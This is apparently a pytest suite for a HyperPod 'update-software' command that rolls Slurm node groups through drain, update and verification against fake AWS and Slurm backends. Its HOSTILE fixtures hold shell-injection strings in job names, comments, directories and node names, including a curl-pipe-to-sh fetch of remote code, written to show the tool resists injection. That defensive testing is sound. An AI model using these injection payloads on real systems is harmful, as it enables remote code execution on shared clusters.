"""`update-software` against a moto server: groups rolled one at a time, each drained through Slurm before its
UpdateClusterSoftware and verified by a job after; the drain deadline's decisions; the progress record and
``--resume``; the deployment-config options refused on Slurm with AWS's words.

The controller is a named fake (``FakeSlurm``, the context's SSM capture): moto has no ``sagemaker-cluster:`` target
and no Slurm. It keeps the nodes' drain state and the jobs, answers the commands the command sends, and logs them
with how many AWS calls had been made by then, so a test can say what came before what. UpdateClusterSoftware is
``HyperPodFakes``' (tests/ops_support.py). The local drill (tests/test_local_update_software.py) runs the same command
against real Slurm daemons and the emulated control plane.
"""

from __future__ import annotations

import json
import re
import shlex
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from hyperpod_cdk.aws.errors import OpsError
from hyperpod_cdk.ops.context import Captured
from hyperpod_cdk.ops.software_plan import JOB_FIELDS, Job, drain_decision, parse_jobs
from ops_support import MotoCluster, Operator, aws_env, moto_url  # noqa: F401

pytestmark = pytest.mark.usefixtures("aws_env")
NAMES = {"cpu": ["ip-10-1-0-2", "ip-10-1-0-3"], "gpu": ["ip-10-1-0-4", "ip-10-1-0-5"]}


def cluster() -> MotoCluster:
    """controller ip-10-1-0-1; cpu ip-10-1-0-2, -3; gpu ip-10-1-0-4, -5."""
    return MotoCluster(
        "roll",
        {
            "controller": ("ml.m5.xlarge", 1, "Controller"),
            "cpu": ("ml.c5.xlarge", 2, "Compute"),
            "gpu": ("ml.g5.xlarge", 2, "Compute"),
        },
    ).create()


@dataclass
class FakeJob:
    id: str
    nodes: set[str]
    ends_at: float
    requeue: bool = True
    batch: bool = True
    name: str = "train"
    comment: str = ""
    work_dir: str = "/fsx/home/alice"
    leader: str = "N/A"
    """``HetJobID``: the heterogeneous job's leader, ``N/A`` for other jobs."""

    def field(self, name: str) -> str:
        """What squeue prints for ``-O <name>``: Slurm's own fields, and the user's (name, comment, paths)."""
        return {
            "JobID": self.id,
            "HetJobID": self.leader,
            "State": "RUNNING",
            "Requeue": str(int(self.requeue)),
            "BatchFlag": str(int(self.batch)),
            "Name": self.name,
            "Comment": self.comment,
            "WorkDir": self.work_dir,
        }[name]


def squeue_format(jobs: list[FakeJob], spec: str) -> str:
    """``squeue -h -O <spec>`` as squeue prints it: each ``type:[size][suffix]`` field, then the suffix."""
    fields = [(part.partition(":")[0], part.partition(":")[2].lstrip("0123456789")) for part in spec.split(",")]
    return "".join("".join(job.field(name) + suffix for name, suffix in fields) + "\n" for job in jobs)


@dataclass
class FakeSlurm:
    """A controller's Slurm as far as update-software asks it."""

    operator: Operator
    drained: set[str] = field(default_factory=set)
    jobs: list[FakeJob] = field(default_factory=list)
    log: list[tuple[int, str]] = field(default_factory=list)
    verify_code: int = 0
    requeued: list[str] = field(default_factory=list)
    verified: list[str] = field(default_factory=list)

    def __call__(self, argv: list[str]) -> Captured:
        command = json.loads(argv[argv.index("--parameters") + 1])["command"][0]
        inner = re.search(r"begin'; (.*); echo \"### hyperpod-cdk exit", command, re.S)
        if inner is None:  # status --slurm's read: no exit line
            return Captured(0, self.nodes(), "")
        text = inner.group(1)
        self.log.append((len(self.operator.fakes.calls), text))
        code, out = self.answer(text)
        return Captured(0, f"Starting session\r\n### hyperpod-cdk begin\r\n{out}### hyperpod-cdk exit {code}\r\n", "")

    def running(self) -> list[FakeJob]:
        now = self.operator.clock[0]
        return [j for j in self.jobs if j.ends_at > now and j.id not in self.requeued]

    def nodes(self) -> str:
        lines = []
        for names in NAMES.values():
            for name in names:
                busy = any(name in j.nodes for j in self.running())
                state = ("MIXED" if busy else "IDLE") + ("+DRAIN" if name in self.drained else "")
                address = name.removeprefix("ip-").replace("-", ".")
                lines.append(f"NodeName={name} CPUAlloc={4 if busy else 0} NodeAddr={address} State={state}")
        return "\n".join(lines) + "\n"

    def answer(self, text: str) -> tuple[int, str]:
        named = re.search(r"(?:NodeName=|-w )(\S+)", text)
        nodes = set(named.group(1).split(",")) if named else set()
        if text.startswith("scontrol update") and "State=DRAIN" in text:
            self.drained |= nodes
        elif text.startswith("scontrol update") and "State=RESUME" in text:
            self.drained -= nodes
        elif text.startswith("squeue "):
            argv = shlex.split(text)
            return 0, squeue_format([j for j in self.running() if j.nodes & nodes], argv[argv.index("-O") + 1])
        elif text.startswith("scontrol requeue"):
            requeued = shlex.split(text)[2].split(",")
            self.requeued += requeued + [j.id for j in self.jobs if j.leader in requeued and j.id not in requeued]
        elif text.startswith("scontrol -o show nodes"):
            return 0, self.nodes()
        elif text.startswith("srun "):
            assert "--reservation=hyperpod-cdk-update-" in text and not nodes & self.drained
            self.verified.append(",".join(sorted(nodes)))
            return self.verify_code, "GPU ok\n" if self.verify_code == 0 else "gpu failed: 7 of 8 GPUs\n"
        return 0, ""

    def commands(self, prefix: str) -> list[tuple[int, str]]:
        return [(calls, text) for calls, text in self.log if text.startswith(prefix)]


def operator(home: Path) -> tuple[Operator, FakeSlurm]:
    made = Operator(home=home)
    made.sleep = lambda seconds: made.clock.__setitem__(0, made.clock[0] + seconds)
    slurm = FakeSlurm(made)
    made.ssm_command = slurm
    return made, slurm


def software_calls(made: Operator) -> list[dict[str, Any]]:
    return made.fakes.batch_calls("UpdateClusterSoftware")


def test_each_group_is_drained_updated_and_verified_before_the_next(tmp_path: Path) -> None:
    cluster()
    made, slurm = operator(tmp_path)
    result = made("update-software", "roll", "--yes", "--poll", "1", "--json")
    assert result.code == 0, result.err
    assert [c["InstanceGroups"] for c in software_calls(made)] == [
        [{"InstanceGroupName": "cpu"}],
        [{"InstanceGroupName": "gpu"}],
    ]  # the controller group is not updated unless named
    assert "DeploymentConfig" not in software_calls(made)[0]
    calls = [name for name, _ in made.fakes.calls]
    first, second = [i for i, name in enumerate(calls) if name == "UpdateClusterSoftware"]
    drains = slurm.commands("scontrol update NodeName=ip-10-1-0-2,ip-10-1-0-3 State=DRAIN")
    assert drains and drains[0][0] <= first  # cpu drained before its update ...
    gpu_drain = slurm.commands("scontrol update NodeName=ip-10-1-0-4,ip-10-1-0-5 State=DRAIN")[0][0]
    assert first < gpu_drain <= second  # ... gpu only after cpu's update
    assert slurm.verified == ["ip-10-1-0-2,ip-10-1-0-3", "ip-10-1-0-4,ip-10-1-0-5"]
    assert slurm.drained == set()
    report = result.json()
    assert [(g["group"], g["phase"], g["verified_on"]) for g in report["groups"]] == [
        ("cpu", "done", NAMES["cpu"]),
        ("gpu", "done", NAMES["gpu"]),
    ]
    record = json.loads((tmp_path / ".hyperpod-cdk/update-software/roll.json").read_text())
    assert record["phases"] == {"cpu": "done", "gpu": "done"}


def test_a_group_waits_for_its_jobs_then_requeues_at_the_deadline(tmp_path: Path) -> None:
    cluster()
    made, slurm = operator(tmp_path)
    start = made.clock[0]
    slurm.jobs = [
        FakeJob("11", {"ip-10-1-0-2"}, ends_at=start + 50),  # finishes within the deadline
        FakeJob("12", {"ip-10-1-0-3"}, ends_at=start + 10_000),  # still running at it: requeued
        FakeJob("13", {"ip-10-1-0-4"}, ends_at=start + 10_000),  # on the other group, not drained yet
    ]
    result = made("update-software", "roll", "--groups", "cpu", "--yes", "--poll", "20", "--drain-deadline", "2m")
    assert result.code == 0, result.err
    assert slurm.requeued == ["12"]
    requeue_at = slurm.commands("scontrol requeue")[0][0]
    assert requeue_at <= next(i for i, (n, _) in enumerate(made.fakes.calls) if n == "UpdateClusterSoftware")
    assert made.clock[0] - start >= 120
    assert "requeued job(s) 12" in result.err


def test_a_job_that_cannot_be_requeued_stops_the_roll_before_the_update(tmp_path: Path) -> None:
    cluster()
    made, slurm = operator(tmp_path)
    slurm.jobs = [FakeJob("21", {"ip-10-1-0-3"}, ends_at=made.clock[0] + 10_000, batch=False)]
    result = made("update-software", "roll", "--yes", "--poll", "30", "--drain-deadline", "60s", "--json")
    assert result.code == 6, result.err
    assert software_calls(made) == [] and slurm.requeued == []
    assert "cannot be requeued" in result.json()["note"]
    slurm.jobs = []  # the operator cancels it; --resume carries on
    resumed = made("update-software", "roll", "--resume", "--yes", "--poll", "1")
    assert resumed.code == 0, resumed.err
    assert len(software_calls(made)) == 2


def test_resume_skips_finished_groups_and_never_resends_an_accepted_update(tmp_path: Path) -> None:
    cluster()
    made, slurm = operator(tmp_path)
    slurm.verify_code = 1  # cpu's verification fails: the roll stops after cpu's update
    failed = made("update-software", "roll", "--yes", "--poll", "1")
    assert failed.code == 1, failed.err
    assert slurm.drained == set(NAMES["cpu"])  # drained again for the operator to look at
    assert "verification job failed" in failed.err
    assert len(software_calls(made)) == 1
    refused = made("update-software", "roll", "--yes")
    assert refused.code == 2 and "--resume" in refused.err
    slurm.verify_code = 0
    resumed = made("update-software", "roll", "--resume", "--yes", "--poll", "1", "--json")
    assert resumed.code == 0, resumed.err
    assert [c["InstanceGroups"][0]["InstanceGroupName"] for c in software_calls(made)] == ["cpu", "gpu"]
    assert slurm.verified == [",".join(NAMES["cpu"])] * 2 + [",".join(NAMES["gpu"])]
    again = made("update-software", "roll", "--resume", "--yes", "--poll", "1")
    assert again.code == 0 and len(software_calls(made)) == 2  # all done: nothing sent again
    assert "already updated and verified" in again.err


@pytest.mark.parametrize(
    ("option", "value"),
    [("--batch", "1"), ("--batch-percent", "25"), ("--wait-seconds", "60"), ("--rollback-alarm", "high-loss")],
)
def test_deployment_options_are_refused_on_slurm_with_awss_words(tmp_path: Path, option: str, value: str) -> None:
    cluster()
    made, _ = operator(tmp_path)
    result = made("update-software", "roll", option, value, "--yes")
    assert result.code == 5
    assert "available only for HyperPod clusters integrated with Amazon EKS" in result.err
    assert "sagemaker-hyperpod-ami-update.html" in result.err and option in result.err
    assert made.fakes.calls == []


def test_groups_image_and_dry_run(tmp_path: Path) -> None:
    cluster()
    made, slurm = operator(tmp_path)
    dry = made("update-software", "roll", "--groups", "gpu,cpu", "--dry-run", "--json")
    assert dry.code == 0, dry.err
    assert [(g["group"], g["slurm_nodes"]) for g in dry.json()["groups"]] == [
        ("gpu", NAMES["gpu"]),
        ("cpu", NAMES["cpu"]),
    ]
    assert software_calls(made) == [] and slurm.log == []
    unknown = made("update-software", "roll", "--groups", "gpus")
    assert unknown.code == 2 and "no instance group 'gpus'" in unknown.err
    declined = made("update-software", "roll")
    assert declined.code == 7 and software_calls(made) == []
    made("update-software", "roll", "--groups", "gpu", "--image-id", "default", "--yes", "--poll", "1")
    assert software_calls(made) == [
        {"ClusterName": "roll", "InstanceGroups": [{"InstanceGroupName": "gpu"}], "ImageId": "default"}
    ]


def test_drain_decisions() -> None:
    requeueable, interactive = Job("1", "RUNNING", True), Job("2", "RUNNING", False)
    assert drain_decision([], 0, 10).action == "update"
    assert drain_decision([requeueable], 9, 10).action == "wait"
    assert drain_decision([requeueable, interactive], 10, 10) == drain_decision([requeueable], 10, 10)
    assert drain_decision([requeueable, interactive], 10, 10).jobs == ("1",)
    assert (drain_decision([interactive], 10, 10).action, drain_decision([interactive], 10, 10).jobs) == (
        "stop",
        ("2",),
    )
    parsed = parse_jobs("5|N/A|RUNNING|1|0\n6|N/A|RUNNING|1|1\n\n")
    assert [(j.id, j.requeue) for j in parsed] == [("5", False), ("6", True)]
    # A heterogeneous job's components are requeued through their leader, once; all must be requeueable.
    het = parse_jobs("7|7|RUNNING|1|1\n8|7|RUNNING|1|1\n9|9|RUNNING|1|1\n10|9|RUNNING|0|1\n")
    assert [(j.id, j.requeue) for j in het] == [("7", True), ("9", False)]


HOSTILE = [
    ("train JobId=1;curl${IFS}-s${IFS}http://x/p|sh", "", "/fsx/home/mallory"),
    ("x\nJobId=2;touch${IFS}/tmp/pwned\n3", "", "/fsx/home/mallory"),
    ("train", "a|b JobId=3;id Requeue=1 BatchFlag=1", "/tmp/x JobId=4;id|sh"),
]
"""Job names, comments and working directories a user writes: a field that looks like another, a shell line after
a ``;``, a newline that starts a line of its own, the separator the reader splits on."""


@pytest.mark.parametrize(("name", "comment", "work_dir"), HOSTILE, ids=["name", "newline", "comment-workdir"])
def test_a_crafted_job_name_or_comment_puts_nothing_on_the_controllers_command_line(
    tmp_path: Path, name: str, comment: str, work_dir: str
) -> None:
    cluster()
    made, slurm = operator(tmp_path)
    hostile = dict(name=name, comment=comment, work_dir=work_dir)
    slurm.jobs = [FakeJob("12", {"ip-10-1-0-3"}, ends_at=made.clock[0] + 10_000, **hostile)]  # type: ignore[arg-type]
    result = made("update-software", "roll", "--groups", "cpu", "--yes", "--poll", "30", "--drain-deadline", "60s")
    assert result.code == 0, result.err
    assert slurm.commands("scontrol requeue") == [(0, "scontrol requeue 12")]
    reads = [text for _, text in slurm.log if text.startswith("squeue ")]
    assert reads and all(set(JOB_FIELDS) >= {f.split(":")[0] for f in shlex.split(t)[-1].split(",")} for t in reads)
    said = "\n".join(text for _, text in slurm.log)
    assert not any(word in said for word in ("curl", "touch", ";id", "JobId=")), said


def test_a_job_line_that_is_not_slurms_own_form_stops_the_roll_before_any_requeue(tmp_path: Path) -> None:
    for line in ("1;id|N/A|RUNNING|1|1", "1|2 JobId=3|RUNNING|1|1", "JobId=1 JobName=x", "1|N/A|RUNNING"):
        with pytest.raises(OpsError, match="cannot read"):
            parse_jobs(line + "\n")
    cluster()
    made, slurm = operator(tmp_path)
    slurm.jobs = [FakeJob("12;id", {"ip-10-1-0-3"}, ends_at=made.clock[0] + 10_000)]
    result = made("update-software", "roll", "--groups", "cpu", "--yes", "--poll", "30", "--drain-deadline", "60s")
    assert result.code == 1 and "is not a Slurm job id" in result.err
    assert slurm.commands("scontrol requeue") == [] and software_calls(made) == []


def test_a_node_name_that_is_not_a_host_name_stops_the_command_before_it_changes_anything(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cluster()
    made, slurm = operator(tmp_path)
    listed = slurm.nodes  # the node at 10.1.0.2 under a name that is not a host name
    monkeypatch.setattr(slurm, "nodes", lambda: listed().replace("NodeName=ip-10-1-0-2 ", "NodeName=cpu$(id) "))
    result = made("update-software", "roll", "--groups", "cpu", "--yes", "--poll", "1")
    assert result.code == 1 and "is not a Slurm node name" in result.err
    assert slurm.log == [] and software_calls(made) == []


def test_a_named_controller_group_is_updated_without_a_drain_and_waits_for_slurm(tmp_path: Path) -> None:
    cluster()
    made, slurm = operator(tmp_path)
    asked = made("update-software", "roll", "--groups", "controller,cpu")
    assert asked.code == 7 and "slurmctld's state" in asked.err and "/var/lib/mysql" in asked.err
    result = made("update-software", "roll", "--groups", "controller,cpu", "--yes", "--poll", "1")
    assert result.code == 0, result.err
    assert [c["InstanceGroups"][0]["InstanceGroupName"] for c in software_calls(made)] == ["controller", "cpu"]
    said = [text.split(" State=")[0] for _, text in slurm.log]
    assert said.index("scontrol ping") < said.index("scontrol update NodeName=ip-10-1-0-2,ip-10-1-0-3")
    assert slurm.commands("scontrol ping")[0][0] == 1  # after the controller group's update, before cpu's
    assert slurm.verified == [",".join(NAMES["cpu"])]
